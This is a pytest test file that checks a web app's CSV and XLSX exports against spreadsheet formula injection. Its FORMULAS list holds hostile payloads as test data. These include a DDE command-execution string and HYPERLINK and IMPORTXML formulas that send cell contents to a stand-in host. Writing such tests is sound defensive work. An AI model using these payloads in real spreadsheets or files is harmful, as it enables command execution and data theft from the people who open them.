"""No cell of a downloaded list is a formula or a link."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.exports.sheets import DANGEROUS, Sheet, written

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://boos.example/?"&A1,"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=IMPORTXML("http://boos.example","//a")',
    "https://boos.example/",
    "{=1+1}",
)
LONGEST = 30_000


def sheet(*texts):
    return Sheet(name="Lijst", headings=("Tekst",), rows=[(text,) for text in texts])


def csv_cells(made):
    read = csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=";")
    return [row[0] for row in read][1:]


def xlsx_parts(made):
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        return {name: file.read(name).decode() for name in file.namelist()}


@pytest.mark.asvs("1.2.10")
@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_has_no_formula(formula):
    (cell,) = csv_cells(written(sheet(formula), "csv"))
    assert not cell.lstrip(" ").startswith(DANGEROUS)
    assert cell.removeprefix("'") == formula


@pytest.mark.asvs("1.2.10")
def test_xlsx_has_no_formula_and_no_link():
    parts = xlsx_parts(written(sheet(*FORMULAS), "xlsx"))
    page = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in page
    assert "hyperlink" not in page.lower()
    assert not [name for name in parts if "rels" in name and "sheet" in name]
    assert "=cmd|" in parts["xl/sharedStrings.xml"]


@given(st.lists(st.text(max_size=50).filter(lambda t: "\x00" not in t), max_size=5))
def test_whatever_was_typed_comes_back_as_text(texts):
    made = csv_cells(written(sheet(*texts), "csv")) if texts else []
    assert [cell.removeprefix("'") for cell in made] == [
        t.removeprefix("'") for t in texts
    ]
    assert not [cell for cell in made if cell.lstrip(" ").startswith(DANGEROUS)]


def test_days_and_numbers_stay_what_they_are():
    made = Sheet(
        name="Lijst", headings=("Dag", "Aantal"), rows=[(date(2026, 11, 22), 3)]
    )
    page = xlsx_parts(written(made, "xlsx"))["xl/worksheets/sheet1.xml"]
    assert re.findall(r"<v>([\d.]+)</v>", page)[-2:] == ["46348", "3"]
    assert csv_cells(written(made, "csv")) == ["2026-11-22"]


def test_a_text_as_long_as_a_note_fits():
    assert written(sheet("a" * LONGEST), "xlsx")
